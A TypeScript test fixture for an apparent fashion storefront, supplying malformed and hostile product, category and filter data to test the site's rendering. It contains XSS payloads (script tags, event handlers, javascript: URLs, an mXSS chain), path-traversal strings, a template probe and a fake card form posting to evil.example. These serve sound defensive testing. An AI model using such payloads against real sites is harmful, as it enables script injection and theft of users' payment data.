/** Runs when any of the hostile texts below is taken for markup or for code. */
const attack = 'window.__pwned=(window.__pwned||0)+1;alert(1)';

export const hostile = {
  slug: 'hostile',
  title: `<img src=x onerror="${attack}">"'><script>${attack}</script>Plain silk {{7*7}}`,
  name: `</script><svg onload="${attack}">Layla`,
  description: [
    `<p>A <strong>calm</strong> dress.</p><script>${attack}</script>`,
    `<img src=x onerror="${attack}"><svg/onload="${attack}"><iframe srcdoc="<script>${attack}</script>"></iframe>`,
    `<a href="javascript:${attack}">care</a> <a href="https://wool.example/care" onclick="${attack}">wool</a>`,
    `<form action="https://evil.example"><input name=card><button>Pay</button></form>`,
    `<style>body{display:none}</style><div style="position:fixed;inset:0">cover</div>`,
    `<p id="content" class="fixed">last words</p><math><mtext><table><mglyph><style><img src=x onerror="${attack}">`,
  ].join(''),
};

export const arabicSlug = 'عباية-كريب-سوداء';
export const oddCategorySlug = 'Gowns & Co';

const eternalSale = { startAt: '2020-01-01T00:00:00Z', endAt: '2099-12-31T23:59:59+02:00' };

/** Comes in red S, red M and blue M, each with its own price and pictures, and has more reviews than anyone reads. */
const withGap = {
  id: 11,
  slug: 'with-a-gap',
  title: 'With a gap',
  reviews: Array.from({ length: 12 }, (_, index) => ({
    rating: 4,
    name: 'Layla',
    review: `Opinion ${index}.`,
  })),
  variants: [
    ['Red', 'S', 310],
    ['Red', 'M', 320],
    ['Blue', 'M', 330],
  ].map(([color, size, price]) => ({
    id: `${color}-${size}`,
    price,
    quantity: 3,
    images: [`${color}-${size}.webp`],
    attributes: [
      { name: 'Color', value: color },
      { name: 'Size', value: size },
    ],
  })),
};

/** Ids as text, names in any letter case, prices as text, paths of every kind, and holes everywhere. */
export function oddProducts(uploads: string) {
  return [
    null,
    {
      id: 'p-1',
      slug: arabicSlug,
      title: 'عباية كريب سوداء',
      description: '<p>Crepe &amp; silk</p>',
      mainCategory: { categoryId: '7', categoryName: 'Gowns', slug: oddCategorySlug },
      productType: 'FASHION',
      price: '2,000',
      variants: [
        {
          id: 'v-1',
          sku: 12345,
          price: '1,250.50',
          salePrice: '1000',
          ...eternalSale,
          quantity: '4',
          images: [
            { filePath: 'one.webp' },
            { filePath: '/two.webp' },
            { filePath: `${uploads}/three.webp` },
            null,
            {},
          ],
          attributes: [
            { name: 'SIZE', value: 'm' },
            { name: 'Color', value: 'DEEP Green' },
            { name: 'colorcode', value: '#364D41' },
          ],
        },
        {
          id: 'v-2',
          price: 900,
          quantity: null,
          images: null,
          attributes: [
            { name: 'size', value: 'M' },
            { name: 'COLOR', value: 'sand' },
            { name: 'code', value: 'javascript:alert(1)' },
          ],
        },
        'no variant at all',
      ],
      defaultVariant: 'v-1',
      reviews: [
        { rating: 'five' },
        { rating: '4.5', name: null, review: 'Good cloth', date: 'yesterday' },
        null,
      ],
      productAttributes: [
        { name: 'Fabric', value: null },
        null,
        { name: 'Fabric', value: ['crepe', 'silk'] },
      ],
      tags: null,
      imageURLs: 'not a list',
    },
    { id: 2, slug: 'bare', title: 'Bare' },
    {
      id: 3,
      slug: 'unreadable',
      title: 'Unreadable',
      price: 'ask us',
      quantity: 'many',
      mainCategory: 'Gowns',
      variants: {},
      videoId: {},
    },
    { id: 4, slug: null, title: 'Without a slug' },
    { slug: 'without-id', title: 'Without an id' },
    { id: 5, slug: 'without-title' },
    { id: 6, slug: '../climbing', title: 'Climbing' },
    {
      id: 8,
      slug: hostile.slug,
      title: hostile.title,
      description: hostile.description,
      metaTitle: hostile.title,
      metaDescription: `"><script>${attack}</script>`,
      metaKeyWords: `<b onmouseover="${attack}">silk</b>, "quoted"`,
      mainCategory: { id: 9, name: hostile.name, slug: 'javascript:alert(1)' },
      productType: 'fashion',
      price: 10,
      videoId: `javascript:${attack}`,
      featuredImage: { filePath: `javascript:${attack}` },
      imageURLs: [
        '"><script>alert(1)</script>',
        '../../../etc/passwd',
        'data:text/html,<script>alert(1)</script>',
      ],
      productAttributes: [{ name: hostile.name, value: hostile.title }],
      variants: [
        {
          id: 1,
          sku: hostile.title,
          price: 10,
          quantity: 1,
          attributes: [
            { name: 'Color', value: hostile.name },
            { name: 'ColorCode', value: `red;background:url("javascript:${attack}")` },
            { name: 'Size', value: '"><b>M</b>' },
          ],
        },
      ],
      reviews: [
        { rating: 1e9, name: hostile.name, review: hostile.title, date: -1, user: 'javascript:alert(1)' },
      ],
    },
    withGap,
  ];
}

/** Titles of those of the products that a listing can show. */
export const readableTitles = ['عباية كريب سوداء', 'Bare', 'Unreadable', hostile.title, withGap.title];

export const oddCategories = [
  {
    categoryId: '7',
    categoryName: 'Gowns & Co',
    slug: oddCategorySlug,
    featuredImage: '/gowns.webp',
    productCount: '12',
  },
  { id: 9, name: hostile.name, slug: 'hostile-category', featuredImage: null, description: hostile.title },
  { id: 10, name: 'فساتين سهرة', slug: 'فساتين-سهرة' },
  { name: 'Without id or slug' },
  'no category',
];

export const oddFeatureTags = [
  { id: 'f1', name: 'Loved', slug: 'محبوبة', code: 'BestSellers' },
  { id: 2, name: hostile.name, slug: 'hostile-tag', code: null },
  null,
];

export const oddFilters = {
  categories: oddCategories,
  attributesVariant: {
    colors: ['Red', { name: 'DEEP Green', code: '364D41' }, { name: hostile.name, code: attack }, null],
    sizes: ['m', 42, null, hostile.title],
  },
};
